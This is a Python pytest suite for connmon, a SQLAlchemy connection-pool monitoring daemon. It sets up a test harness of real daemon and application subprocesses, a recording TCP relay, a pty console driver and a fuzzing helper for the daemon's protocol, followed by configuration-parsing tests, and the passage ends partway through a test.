"""connmon's tests: real connmond processes on loopback ports, real
SQLAlchemy engines against the real MariaDB, PostgreSQL and SQLite, real
forked workers.  Every wait is bounded.

Run with ``python -m pytest -v test_connmon.py`` (see README.txt).
"""

from __future__ import annotations

import collections
import configparser
import curses
import fcntl
import functools
import gc
import importlib
import itertools
import json
import os
import pathlib
import queue
import random
import re
import select
import signal
import socket
import struct
import subprocess
import sys
import termios
import textwrap
import threading
import time
import weakref
from typing import Any, Callable, Dict, List, Optional, Tuple

import hypothesis
import hypothesis.strategies as st
import pytest

import connmon
import connmon_console
import connmon_server


# ===========================================================================
# Harness
#
# What every test stands on: the port picker, bounded waits, the
# missing-service helpers (a skip on a laptop, a failure in CI), a real
# connmond (Daemon, SecureDaemon with its CertificateAuthority), real
# applications (App, SyntheticApp, Thrower, Script) driven over pipes, the
# Relay that sees the wire, readers of the exports, and a real terminal
# (Terminal) for the console.
# ===========================================================================


HERE = os.path.dirname(os.path.abspath(__file__))
# Subprocesses import connmon from this checkout, whatever is installed.
CHILD_ENV = dict(os.environ, PYTHONPATH=os.pathsep.join(
    [HERE] + [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep)
              if p]))
IN_CI = os.environ.get("CI") == "true"
MYSQL_URL = os.environ.get("CONNMON_TEST_MYSQL",
                           "mysql+pymysql://root@127.0.0.1:3306/test")
POSTGRESQL_URL = os.environ.get(
    "CONNMON_TEST_POSTGRESQL",
    "postgresql+psycopg2://postgres@127.0.0.1:5432/test")


def wait_until(check: Callable[[], Any], timeout: float = 15.0,
               what: str = "condition") -> Any:
    """Poll ``check`` until it returns something true; bounded."""
    deadline = time.monotonic() + timeout
    last: Any = None
    while time.monotonic() < deadline:
        try:
            last = check()
        except (OSError, connmon.ProtocolError) as err:
            last = err
        else:
            if last:
                return last
        time.sleep(0.05)
    raise AssertionError(f"timed out after {timeout}s waiting for {what}; "
                         f"last saw {last!r}")


def require_database(url: str) -> None:
    """Skip on a laptop without the server; in CI a missing server fails."""
    import sqlalchemy as sa
    try:
        engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
        with engine.connect() as conn:
            conn.execute(sa.text("SELECT 1"))
    except Exception as err:  # any driver error means "not reachable"
        missing(f"database at {url} not reachable: {err}")


def require_module(name: str) -> None:
    """Skip on a laptop without the package; in CI, which installs the
    test extra, a missing one fails."""
    try:
        importlib.import_module(name)
    except ImportError as err:
        missing(f"{name} not installed (pip install -e '.[test]'): {err}")


def missing(message: str) -> None:
    """What a test needs is not here: a failure in CI, a skip elsewhere."""
    if IN_CI:
        pytest.fail(message)
    pytest.skip(message)


def _ephemeral_ports() -> range:
    """The kernel's range for outgoing connections' local ports."""
    try:
        with open("/proc/sys/net/ipv4/ip_local_port_range") as file:
            low, high = file.read().split()
        return range(int(low), int(high) + 1)
    except (OSError, ValueError):
        return range(32768, 61000)   # Linux's default


EPHEMERAL_PORTS = _ephemeral_ports()
_ports_handed_out: set = set()


def free_port() -> int:
    """A loopback port free now, below the ephemeral range and not handed
    out before in this run (bench_connmon.py picks its ports here too).

    A port the kernel chose with bind(0) is an ephemeral one, so between
    this pick and the daemon's bind, any outgoing connection (a sender's
    reconnect, a cluster peer dialling a node not up yet) may take it as
    its local port, and the daemon fails with "Address already in use"."""
    for _ in range(1000):
        port = random.randrange(min(10000, EPHEMERAL_PORTS.start // 2),
                                EPHEMERAL_PORTS.start)
        if port in _ports_handed_out:
            continue
        with socket.socket() as sock:
            try:
                sock.bind(("127.0.0.1", port))
            except OSError:
                continue
        _ports_handed_out.add(port)
        return port
    raise RuntimeError("no free loopback port below the ephemeral range")


class Daemon:
    """A real connmond subprocess on a free loopback port."""

    def __init__(self, tmp_path, port: Optional[int] = None,
                 extra_config: str = "", config=None,
                 node: str = "node1", host: str = "127.0.0.1"):
        """A one-node service "test" of its own, or ``node`` of the service
        "test" in an existing ``config`` file (listening on ``host``)."""
        self.port = port or free_port()
        self.node = node
        self.host = host
        if config is None:
            config = tmp_path / f"connmon-{self.port}.cfg"
            config.write_text(textwrap.dedent(f"""\
                [connmon_service_test]
                name: test
                nodes:
                    node1 hostname={host}:{self.port} bind={host}
                """) + extra_config)
        self.config = config
        self.log = tmp_path / f"connmond-{self.port}.log"
        self.proc: Optional[subprocess.Popen] = None
        self.start()

    @property
    def address(self) -> str:
        return f"{self.host}:{self.port}"

    def start(self) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "connmon_server", "-c", str(self.config),
             "-s", "test", "-n", self.node, "--log-level", "DEBUG"],
            cwd=HERE, env=CHILD_ENV, stdout=subprocess.DEVNULL,
            stderr=open(self.log, "ab"))
        wait_until(self._listening, 15, f"connmond on port {self.port}")

    def _listening(self) -> bool:
        if self.proc.poll() is not None:
            raise AssertionError(f"connmond exited: {self.log.read_text()}")
        try:
            socket.create_connection((self.host, self.port), 0.5).close()
            return True
        except OSError:
            return False

    def kill(self, sig: int = signal.SIGKILL) -> None:
        self.proc.send_signal(sig)
        self.proc.wait(10)

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.kill(signal.SIGTERM)

    def snapshot(self, procs: bool = False) -> Dict[str, Any]:
        conn = connmon.open_connection([(self.host, self.port)], "console")
        try:
            return conn.request({"op": "snapshot", "procs": procs})
        finally:
            conn.close()

    def row(self, progname: str, procs: bool = False) -> Optional[dict]:
        for row in self.snapshot(procs)["rows"]:
            if row["progname"] == progname:
                return row
        return None

    def wait_row(self, progname: str, procs: bool = False,
                 timeout: float = 15.0, **expected: Any) -> dict:
        """Wait until the row of ``progname`` has the ``expected`` values."""
        seen = []

        def matches():
            row = self.row(progname, procs)
            seen[:] = [row]
            return row if row and all(row[k] == v for k, v in
                                      expected.items()) else None
        try:
            return wait_until(matches, timeout, f"{progname} row with "
                              f"{expected}")
        except AssertionError as err:
            raise AssertionError(f"{err}; the row was {seen}") from None


@pytest.fixture
def daemon(tmp_path):
    daemon = Daemon(tmp_path)
    yield daemon
    daemon.stop()


# The application the tests drive: a real program using a real engine.  It
# reads one command a line and answers one line.
APP_SCRIPT = r'''
import gc, json, os, signal, sys, threading, time
import sqlalchemy as sa

url, options = sys.argv[1], json.loads(sys.argv[2])
engine = sa.create_engine(url, **options)
held = []
workers = []

def answer(*words):
    print(*words, flush=True)

def hold(n):
    for _ in range(n):
        conn = engine.connect()
        conn.execute(sa.text("SELECT 1"))
        held.append(conn)

def query(n):
    for _ in range(n):
        with engine.connect() as conn:
            conn.execute(sa.text("SELECT 1")).scalar()

fail_next = [0]

def failing_connect(dbapi_connection, connection_record):
    """An application's connect listener (as oslo.db's SET of sql_mode)
    that fails for the next fail_next[0] connects."""
    if fail_next[0]:
        fail_next[0] -= 1
        raise RuntimeError("a connect listener of the application failed")

def sender_ticks():
    import connmon
    (sender,) = connmon._senders.values()
    ticks = 0
    for thread in sender.threads:
        with open(f"/proc/self/task/{thread.native_id}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        ticks += int(fields[11]) + int(fields[12])
    return ticks

for line in sys.stdin:
    cmd, *args = line.split()
    n = int(args[0]) if args else 0
    if cmd == "hold":
        hold(n)
    elif cmd == "release":
        for _ in range(n):
            held.pop().close()
    elif cmd == "query":
        query(n)
    elif cmd == "parallel":   # N threads at once, each querying M times
        threads = [threading.Thread(target=query, args=(int(args[1]),))
                   for _ in range(n)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    elif cmd == "invalidate":
        conn = held.pop()
        conn.invalidate()
        conn.close()
    elif cmd == "dispose":
        engine.dispose()
    elif cmd == "detach":   # the last connection held leaves its pool
        held[-1].detach()
    elif cmd == "drop":   # the last one held is let go, unclosed
        held.pop()
        gc.collect()
    elif cmd == "drop_pool":   # dispose(close=False): the old pool is let go
        engine.dispose(close=False)
    elif cmd == "nogc":
        gc.disable()
    elif cmd == "collect":
        gc.collect()
    elif cmd == "fail_connects":   # N checkouts whose connect listener fails
        if not sa.event.contains(engine, "connect", failing_connect):
            sa.event.listen(engine, "connect", failing_connect)
        fail_next[0] = n
        failed = 0
        for _ in range(n):
            try:
                engine.connect()
            except RuntimeError:
                failed += 1
        answer("ok", failed)
        continue
    elif cmd == "engines":
        # make, use and drop N engines more, as some programs do
        for _ in range(n):
            sa.create_engine(url, **options).connect().close()
        gc.collect()
    elif cmd == "backend_pid":
        answer("ok", held[-1].connection.dbapi_connection.thread_id())
        continue
    elif cmd == "fork":
        # fork N workers; worker i holds i % 3 + 1 connections, then waits
        for i in range(n):
            pid = os.fork()
            if pid == 0:
                held.clear()
                hold(i % 3 + 1)
                while True:
                    time.sleep(60)
            workers.append(pid)
        answer("ok", *workers)
        continue
    elif cmd == "busy":
        def churn():
            while True:
                with engine.connect() as conn:
                    conn.execute(sa.text("SELECT 1"))
        threading.Thread(target=churn, daemon=True).start()
    elif cmd == "version":
        answer("ok", sa.__version__)
        continue
    elif cmd == "ticks":
        answer("ok", sender_ticks())
        continue
    elif cmd == "exit":
        break
    answer("ok")
'''


def readable(files: List[Any], timeout: float) -> List[Any]:
    """Those of ``files`` that can be read within ``timeout`` seconds.
    poll(), not select(): a test holding a thousand sockets has
    descriptors above 1024."""
    poller = select.poll()
    for file in files:
        poller.register(file, select.POLLIN)
    ready = {fd for fd, _ in poller.poll(timeout * 1000)}
    return [file for file in files if file.fileno() in ready]


def kill_group(proc: subprocess.Popen) -> None:
    """SIGKILL a process started in a session of its own, and all its
    children (forked workers)."""
    try:
        os.killpg(proc.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
    proc.wait(10)


class App:
    """A real application process, driven one command at a time."""

    source = APP_SCRIPT   # the program it runs

    def __init__(self, tmp_path, url: str, progname: str = "app.py",
                 env: Optional[Dict[str, str]] = None,
                 **engine_options: Any):
        script = tmp_path / progname
        script.write_text(self.source)
        self.progname = progname
        self.proc = subprocess.Popen(
            [sys.executable, str(script), url, json.dumps(engine_options)],
            cwd=HERE, env=env or CHILD_ENV, stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=open(tmp_path / f"{progname}.log", "ab"),
            start_new_session=True, text=True)
        self.log = tmp_path / f"{progname}.log"
        self.workers: List[int] = []

    def __call__(self, command: str, timeout: float = 30.0) -> List[str]:
        """Send a command; return the words after "ok"."""
        self.proc.stdin.write(command + "\n")
        self.proc.stdin.flush()
        ready = readable([self.proc.stdout], timeout)
        line = self.proc.stdout.readline() if ready else ""
        assert line.startswith("ok"), (
            f"{command!r} failed: {line!r}\n{self.log.read_text()}")
        return line.split()[1:]

    def fork(self, n: int) -> List[int]:
        self.workers = [int(pid) for pid in self(f"fork {n}")]
        return self.workers

    def stop(self) -> None:
        kill_group(self.proc)


@pytest.fixture
def apps(tmp_path):
    started: List[App] = []

    def start(url: str, progname: str = "app.py", app_class: type = App,
              **options: Any) -> App:
        app = app_class(tmp_path, url, progname, **options)
        started.append(app)
        return app

    yield start
    for app in started:
        app.stop()


def monitored(url: str, daemon: Daemon, form: str = "dialect") -> str:
    """``url`` with connmon turned on, in either of the two URL forms."""
    from sqlalchemy.engine import make_url
    u = make_url(url)
    if form == "dialect":
        u = u.set(drivername=f"{u.get_backend_name()}+"
                  f"{u.get_driver_name()}_connmon")
    else:
        u = u.update_query_dict({"plugin": "connmon"})
    return u.update_query_dict(
        {"connmon_addr": daemon.address}).render_as_string(
            hide_password=False)


def write(tmp_path, text: str):
    path = tmp_path / "connmon.cfg"
    path.write_text(textwrap.dedent(text))
    return str(path)


class Relay(threading.Thread):
    """A loopback TCP relay that records every byte clients send; it can
    cut what it carries and refuse more for a while (a network cut)."""

    def __init__(self, target_port: int, port: int = 0):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", port))
        self.port = self.listener.getsockname()[1]
        self.target_port = target_port
        self.received = bytearray()
        self.lock = threading.Lock()
        self.carried: List[socket.socket] = []
        self.is_cut = False
        self.start()

    def cut(self, cut: bool = True) -> None:
        """Cut every connection and refuse new ones (or, with False, let
        them through again)."""
        with self.lock:
            self.is_cut = cut
            for sock in self.carried if cut else ():
                try:
                    sock.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def run(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            with self.lock:
                if self.is_cut:
                    client.close()
                    continue
            try:
                upstream = socket.create_connection(("127.0.0.1",
                                                     self.target_port))
            except OSError:   # the target is not up (yet)
                client.close()
                continue
            with self.lock:
                self.carried += [client, upstream]
            for src, dst, record in ((client, upstream, True),
                                     (upstream, client, False)):
                threading.Thread(target=self.pump, args=(src, dst, record),
                                 daemon=True).start()

    def pump(self, src, dst, record: bool) -> None:
        try:
            while True:
                data = src.recv(65536)
                if not data:
                    break
                if record:
                    with self.lock:
                        self.received += data
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for sock in (src, dst):
                try:
                    sock.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def close(self) -> None:
        self.listener.close()


def run_connmond(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "connmon_server", *args],
                          cwd=HERE, env=CHILD_ENV, capture_output=True,
                          text=True, timeout=30)


def located(message: str) -> str:
    """A config mistake as --check-config lists it: "[SECTION], line N:
    problem" becomes ":N: [SECTION] problem"."""
    found = re.fullmatch(r"(?:\[(.*?)\], )?line (\d+): (.*)", message,
                         re.S)
    section = f" [{found[1]}]" if found[1] else ""
    return f":{found[2]}:{section} {found[3]}"


def http_get(port: int, path: str):
    import urllib.error
    import urllib.request
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}",
                                    timeout=10) as reply:
            return reply.status, reply.headers, reply.read().decode()
    except urllib.error.HTTPError as err:
        return err.code, err.headers, err.read().decode()


def metric_samples(text: str) -> Dict[tuple, float]:
    """{(sample name, hostname, progname): value} of a /metrics page."""
    from prometheus_client.parser import text_string_to_metric_families
    samples = {}
    for family in text_string_to_metric_families(text):
        for sample in family.samples:
            key = (sample.name, sample.labels["hostname"],
                   sample.labels["progname"])
            assert key not in samples, key
            samples[key] = sample.value
    return samples


def expected_samples(snapshot: Dict[str, Any]) -> Dict[tuple, float]:
    """What /metrics must say for a snapshot, by the table of metrics."""
    return {(m.name, row["hostname"], row["progname"]): float(row[m.key])
            for m in connmon_server.METRICS
            for row in snapshot["rows"] if row.get(m.key) is not None}


# What a pool's listeners count in a connection's note rather than queue
CHECKOUT, CHECKIN = "checkout", "checkin"


class PoolListeners:
    """What connmon's pool listeners write, for a ProcessState made by
    hand, and the fold thread's fold after each: a checkout and a checkin
    counted in the connection's note and the connections out (as
    PoolProbe.checked_out and the checkin listener do; a checkout of a
    connection not open connects it first), any other event queued.  The
    arguments are an event's six items (``extra``: a checkout's site);
    ``measured``: whether the pools measure waits (then a checkout says
    when it ``began``)."""

    def __init__(self, state: connmon.ProcessState, measured: bool = False):
        self.state = state
        self.measured = measured
        self.out: Dict[int, connmon.ConnectionNote] = {}

    def __call__(self, kind: str, ident: Optional[int], when: float,
                 pool: Any = None, extra: Any = None,
                 began: Optional[float] = None) -> None:
        events: List[tuple] = []
        if kind == CHECKOUT:
            note = self.state.notes.get(ident)
            if note is None:
                note = self.note(ident, pool)
                events.append((connmon.CONNECT, ident, when, pool, note,
                               None))
            note.out_at, note.site = when, extra
            if began is not None:
                note.waited += when - began
                note.wait_max = max(note.wait_max, when - began)
                if when - began >= connmon.WAITING_AFTER:
                    events.append((connmon.WAITED, None, when, pool, None,
                                   began))
            note.checkouts += 1
            self.out[ident] = note
        elif kind == CHECKIN:
            note = self.out.pop(ident, None)
            if note is not None:
                note.held += when - note.out_at
                note.holds += 1
        else:
            if kind == connmon.CONNECT:
                extra = self.note(ident, pool)
            elif kind == connmon.CLOSE:
                self.out.pop(ident, None)
            elif kind == connmon.ENGINE_GONE:
                for conn, note in list(self.out.items()):
                    if note.pool == ident:
                        del self.out[conn]
            events.append((kind, ident, when, pool, extra, began))
        self.state.fold(events, dict(self.out), len(self.out))

    def note(self, ident: int, pool: int) -> connmon.ConnectionNote:
        return connmon.ConnectionNote(ident, pool, self.measured, None)


class SyntheticApp:
    """An application process that speaks the real protocol by hand, so it
    can claim any hostname."""

    def __init__(self, daemon: Daemon, hostname: str, progname: str):
        self.state = connmon.ProcessState(os.urandom(8).hex(), hostname,
                                          progname, 4242, session=1)
        self.listeners = PoolListeners(self.state)
        self.sent: Optional[connmon.ProcessState] = None
        self.conn = connmon.open_connection(
            [("127.0.0.1", daemon.port)], "app", proc=self.state.describe())
        self.send()

    def send(self) -> None:
        """The whole state the first time, then what changed."""
        self.conn.send(self.state.message(time.monotonic(), self.sent))
        self.sent = self.state.copy()
        self.state.reset_counters()

    def event(self, kind: str, conn: int, pool: Optional[int] = None,
              when: Optional[float] = None) -> None:
        """One pool event of ``kind`` (CHECKOUT, connmon.CONNECT...), as
        the listeners without checkout sites note it, now or ``when``."""
        self.listeners(kind, conn, time.monotonic() if when is None
                       else when, pool)


def csv_rows(path) -> List[Dict[str, str]]:
    import csv
    with open(path, newline="") as file:
        return list(csv.DictReader(file))


def sqlite_url(tmp_path, daemon: Daemon, name: str = "db") -> str:
    return (f"sqlite+pysqlite_connmon:///{tmp_path}/{name}.sqlite"
            f"?connmon_addr={daemon.address}")


def _controlling_tty() -> None:
    """In the console's child: make the pty its controlling terminal, so
    that the kernel sends it SIGWINCH on a resize, as a real terminal."""
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)


def xterm_screen(cols: int, lines: int):
    """A pyte screen and stream that also know the three xterm sequences
    ncurses uses for xterm-256color and pyte lacks: REP (repeat the last
    character), SU and SD (scroll the region up / down)."""
    import pyte

    class Screen(pyte.Screen):
        last = " "

        def draw(self, data: str) -> None:
            super().draw(data)
            self.last = data[-1:] or self.last

        def repeat(self, count: int = 1, *_: Any, **__: Any) -> None:
            self.draw(self.last * max(1, count))

        def _scroll(self, count: int, row: int, step) -> None:
            self.save_cursor()
            self.cursor.y = row
            for _ in range(max(1, count)):
                step()
            self.restore_cursor()

        def scroll_up(self, count: int = 1, *_: Any, **__: Any) -> None:
            bottom = (self.margins.bottom if self.margins
                      else self.lines - 1)
            self._scroll(count, bottom, self.index)

        def scroll_down(self, count: int = 1, *_: Any, **__: Any) -> None:
            top = self.margins.top if self.margins else 0
            self._scroll(count, top, self.reverse_index)

    class Stream(pyte.ByteStream):
        csi = dict(pyte.ByteStream.csi, b="repeat", S="scroll_up",
                   T="scroll_down")

    screen = Screen(cols, lines)
    return screen, Stream(screen)


class Terminal:
    """The real console in a real pseudo-terminal, seen through pyte."""

    KEYS = ("kcuu1", "kcud1", "knp", "kpp", "khome", "kend", "kf1", "kf3",
            "kf4", "kf5", "kf6", "kf10")

    def __init__(self, tmp_path, *args: str, cols: int = 160,
                 lines: int = 30, env: Optional[Dict[str, str]] = None):
        self.master, self.slave = os.openpty()
        curses.setupterm("xterm-256color", self.slave)
        self.key = {name: curses.tigetstr(name) for name in self.KEYS}
        self.screen, self.stream = xterm_screen(cols, lines)
        self.resize(cols, lines)
        self.log = tmp_path / f"console-{self.master}.log"
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "connmon_console", *args], cwd=HERE,
            env={**CHILD_ENV, "TERM": "xterm-256color", **(env or {})},
            stdin=self.slave,
            stdout=self.slave, stderr=open(self.log, "ab"),
            start_new_session=True, preexec_fn=_controlling_tty)

    def resize(self, cols: int, lines: int) -> None:
        fcntl.ioctl(self.master, termios.TIOCSWINSZ,
                    struct.pack("HHHH", lines, cols, 0, 0))
        self.screen.resize(lines, cols)

    def pump(self) -> None:
        while select.select([self.master], [], [], 0)[0]:
            try:
                data = os.read(self.master, 1 << 16)
            except OSError:   # the console closed the pty
                return
            if not data:
                return
            self.stream.feed(data)

    @property
    def display(self) -> List[str]:
        self.pump()
        return self.screen.display

    @property
    def text(self) -> str:
        return "\n".join(self.display)

    def wait_for(self, check: Callable[["Terminal"], Any], what: str,
                 timeout: float = 20.0) -> Any:
        try:
            return wait_until(lambda: self.proc.poll() is None and check(
                self), timeout, what)
        except AssertionError as err:
            raise AssertionError(f"{err}\nconsole exit status "
                                 f"{self.proc.poll()}; screen:\n"
                                 f"{self.text}\nlog:\n"
                                 f"{self.log.read_text()}") from None

    def wait_text(self, text: str, timeout: float = 20.0) -> None:
        self.wait_for(lambda t: text in t.text, f"{text!r} on screen",
                      timeout)

    def press(self, keys: bytes) -> None:
        os.write(self.master, keys)

    def rows(self) -> Dict[str, tuple]:
        """The table's rows on screen: progname -> (line number, fields).
        (The default width shows every column; a narrower one, those
        whose headings are on screen.)"""
        self.pump()
        found = {}
        columns = len(self.screen.display[6].split())
        for y, line in enumerate(self.screen.display):
            fields = line.split()
            if y >= 7 and columns > 2 and len(fields) == columns:
                found[fields[1]] = (y, fields)
        return found

    def numbers(self, progname: str) -> List[str]:
        """The numbers of a row, without their alarm markers; [] while it
        is not on screen."""
        row = self.rows().get(progname)
        return [field.lstrip(connmon_console.ABOVE + connmon_console.LEAKED)
                for field in row[1][2:]] if row else []

    def colour(self, progname: str) -> str:
        y, _ = self.rows()[progname]
        return self.screen.buffer[y][0].fg

    def order(self) -> List[str]:
        return [name for name, _ in sorted(self.rows().items(),
                                           key=lambda item: item[1][0])]

    def lflag(self) -> int:
        return termios.tcgetattr(self.slave)[3]

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(10)
        os.close(self.master)
        os.close(self.slave)


@pytest.fixture
def terminal(tmp_path):
    started: List[Terminal] = []

    def start(*args: str, **options: Any) -> Terminal:
        term = Terminal(tmp_path, *args, **options)
        started.append(term)
        return term

    yield start
    for term in started:
        term.close()
        assert "Traceback" not in term.log.read_text()


SECRET = "hunter2-Sh4red-Secret"


class SecureDaemon(Daemon):
    """A Daemon whose own snapshots (wait_row, ...) connect like any client
    of its service: with the secret and TLS of its config file."""

    def snapshot(self, procs: bool = False) -> Dict[str, Any]:
        service = connmon.find_service("test", str(self.config))
        conn = connmon.open_connection(
            [("127.0.0.1", self.port)], "console",
            security=connmon.Security.of_service(service, console=True))
        try:
            return conn.request({"op": "snapshot", "procs": procs})
        finally:
            conn.close()


def secret_file(tmp_path, name: str, secret: str = SECRET) -> str:
    path = tmp_path / name
    path.write_text(secret + "\n")
    path.chmod(0o600)
    return str(path)


def console(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "--json", *args],
        cwd=HERE, env=CHILD_ENV, capture_output=True, text=True, timeout=30)


def sqlite_app_url(tmp_path, query: str) -> str:
    return f"sqlite:///{tmp_path}/hardening.sqlite?plugin=connmon&{query}"


class CertificateAuthority:
    """A certificate authority made for one test, with files on disk."""

    def __init__(self, tmp_path, name: str):
        import trustme
        self.ca = trustme.CA()
        self.dir = tmp_path / name
        self.dir.mkdir()
        self.cafile = str(self.dir / "ca.pem")
        self.ca.cert_pem.write_to_path(self.cafile)

    def issue(self, name: str, *identities: str) -> tuple:
        """(certfile, keyfile) of a new leaf certificate."""
        leaf = self.ca.issue_cert(*identities)
        certfile, keyfile = (str(self.dir / f"{name}.pem"),
                             str(self.dir / f"{name}.key"))
        leaf.cert_chain_pems[0].write_to_path(certfile)
        leaf.private_key_pem.write_to_path(keyfile)
        return certfile, keyfile


def client_config(tmp_path, daemon: Daemon, name: str, options: str) -> str:
    """A config file naming the daemon's node, with the client's options."""
    path = tmp_path / name
    path.write_text(textwrap.dedent(f"""\
        [connmon_service_test]
        name: test
        nodes:
            node1 hostname=127.0.0.1:{daemon.port}
        """) + options)
    return str(path)


class Thrower:
    """Throws hostile inputs at a daemon and counts them.

    Each input before the hello needs a connection of its own.  Inputs
    after a valid hello go one at a time, each followed by a ping: the
    pong says the daemon took the input and carries on, an error that it
    refused it (and hung up; the thrower says hello again for the next).
    """

    def __init__(self, port: int):
        self.port = port
        self.thrown = 0
        self.refused = 0
        self.serial = 0

    def connect(self) -> tuple:
        sock = socket.create_connection(("127.0.0.1", self.port), 10)
        sock.settimeout(10)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        rfile = sock.makefile("rb")
        assert connmon.read_message(rfile)["op"] == "welcome"
        return sock, rfile

    def before_hello(self, data: bytes) -> None:
        """Send ``data`` as the first bytes, then end the stream."""
        sock, rfile = self.connect()
        with sock:
            try:
                sock.sendall(data)
                sock.shutdown(socket.SHUT_WR)
                while rfile.read(65536):
                    pass
            except OSError:   # the daemon may hang up while we still talk
                pass
        self.thrown += 1

    def hello(self, role: str) -> tuple:
        sock, rfile = self.connect()
        self.serial += 1
        proc = {"id": f"fuzz-{self.serial}", "hostname": "fuzz-host",
                "progname": "fuzz.py", "pid": self.serial, "session": 1}
        sock.sendall(connmon.encode({"op": "hello", "version": 1,
                                     "role": role, "proc": proc,
                                     "service": "test", "node": "node2"}))
        assert connmon.read_message(rfile) == {"op": "ready"}
        if role == "app":
            sock.sendall(connmon.encode({
                "op": "state", "connect": [[1, 1], [2, 1]], "close": [],
                "checkout": [[2, 0.5]], "checkin": [], "checkouts": 1,
                "hold": [0, 0], "peak": [2, 1], "pools": [[1, 5]]}))
        return sock, rfile

    def after_hello(self, role: str, lines: List[bytes]) -> None:
        """Send each line after a valid hello of ``role``."""
        sock = rfile = None
        try:
            for line in lines:
                if sock is None:
                    sock, rfile = self.hello(role)
                sock.sendall(line + connmon.encode({"op": "ping"}))
                self.thrown += 1
                while True:   # a console's request may have its own reply
                    reply = connmon.read_message(rfile, 64 << 20)
                    if reply is None or reply["op"] in ("pong", "error"):
                        break
                if reply is None or reply["op"] == "error":
                    self.refused += 1
                    sock.close()
                    sock = None
        finally:
            if sock is not None:
                sock.close()


class Script:
    """A small program of a test's own, run with this checkout's connmon
    in a session of its own; it prints lines the test reads (bounded)."""

    def __init__(self, tmp_path, name: str, source: str, *args: str,
                 python: Tuple[str, ...] = ()):
        path = tmp_path / name
        path.write_text(source)
        self.proc = subprocess.Popen(
            [sys.executable, *python, str(path), *args], cwd=HERE,
            env=CHILD_ENV, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            text=True, start_new_session=True)
        # (a reader thread: select() cannot see lines already buffered)
        self.lines: "queue.Queue[str]" = queue.Queue()
        threading.Thread(target=lambda: list(map(self.lines.put,
                                                 self.proc.stdout)),
                         daemon=True).start()

    def send(self, line: str) -> None:
        self.proc.stdin.write(line + "\n")
        self.proc.stdin.flush()

    def line(self, timeout: float = 60.0) -> List[str]:
        try:
            return self.lines.get(timeout=timeout).split()
        except queue.Empty:
            raise AssertionError(f"no line from the program in {timeout} s"
                                 ) from None

    def stop(self) -> None:
        kill_group(self.proc)


# ===========================================================================
# Configuration
#
# The config file: the seed examples and the built-in default, every
# malformed config named by file, section and line, addresses, service and
# daemon options, and --check-config, which refuses what the daemon and the
# applications would refuse.
# ===========================================================================


def test_config_seed_examples(tmp_path):
    path = write(tmp_path, """\
        # sample config, listen on 0.0.0.0:5800 and clients
        # will connect to 192.168.1.205:5800
        [connmon_service_default]
        name: default

        nodes:
            node1 hostname=192.168.1.205:5800
            # a comment line between nodes
            node2 hostname=192.168.1.206 bind=127.0.0.2:5900
            node3 hostname=[::1]:5801
        """)
    service = connmon.find_service("default", path)
    assert [(n.name, n.address, n.bind) for n in service.nodes] == [
        ("node1", ("192.168.1.205", 5800), ("0.0.0.0", 5800)),
        ("node2", ("192.168.1.206", 5800), ("127.0.0.2", 5900)),
        ("node3", ("::1", 5801), ("::", 5801)),
    ]


def test_config_builtin_default_when_no_file(monkeypatch, tmp_path):
    monkeypatch.setattr(connmon, "DEFAULT_CONFIG_FILE",
                        str(tmp_path / "absent.cfg"))
    (node,) = connmon.find_service("default").nodes
    assert (node.name, node.address, node.bind) == (
        "node1", ("localhost", 5800), ("0.0.0.0", 5800))


MALFORMED_CONFIGS = [  # (config text of service "a", message)
    ("[connmon_service_a]\nnodes:\n    n1 hostname=h\n",
     "[connmon_service_a], line 1: missing 'name:'"),
    ("[connmon_service_a]\nname: a\n",
     "[connmon_service_a], line 1: missing 'nodes:' (one node a line: "
     "NODENAME hostname=HOST[:PORT])"),
    ("[connmon_service_a]\nname: a\nnodes:\n    n1 hostname=h:99999\n",
     "[connmon_service_a], line 4: bad port '99999' in address 'h:99999'"),
    ("[connmon_service_a]\nname: a\nnodes:\n    n1 hostname=h:80\n"
     "    n2 bind=0.0.0.0\n",
     "[connmon_service_a], line 5: node line 'n2 bind=0.0.0.0' has no "
     "hostname=HOST[:PORT]"),
    ("[connmon_service_a]\nname: a\nnodes:\n    n1 hostnme=h\n",
     "[connmon_service_a], line 4: unexpected 'hostnme=h' in node line "
     "'n1 hostnme=h'; expected hostname=HOST[:PORT] [bind=ADDR[:PORT]]"),
    ("[connmon_service_a]\nname: a\nnodes:\n    n1 hostname=h\n"
     "    n1 hostname=g\n",
     "[connmon_service_a], line 4: node 'n1' is listed twice"),
    ("[connmon_service_a\nname: a\n",
     "line 1: section header '[connmon_service_a' has no closing ']'"),
    ("[connmon_service_b]\nname: b\n[connmon_service_a\nname: a\n",
     "[connmon_service_b], line 3: section header '[connmon_service_a' has "
     "no closing ']'"),
    ("[connmon_service_a]\nname: a\nnodes\n    n1 hostname=h\n",
     "[connmon_service_a], line 3: 'nodes' is not 'option: value' (no ':' "
     "or '=')"),
    ("[connmon_service_a]\nname: a\nname: b\n",
     "[connmon_service_a], line 3: option 'name' is given twice"),
]


@pytest.mark.parametrize("text, message", MALFORMED_CONFIGS)
def test_config_errors_name_file_section_and_line(tmp_path, text, message):
    path = write(tmp_path, text)
    with pytest.raises(connmon.ConfigError) as err:
        connmon.find_service("a", path)
    assert str(err.value).startswith(path)
    assert message in str(err.value)


def test_config_unknown_service_and_missing_file(tmp_path):
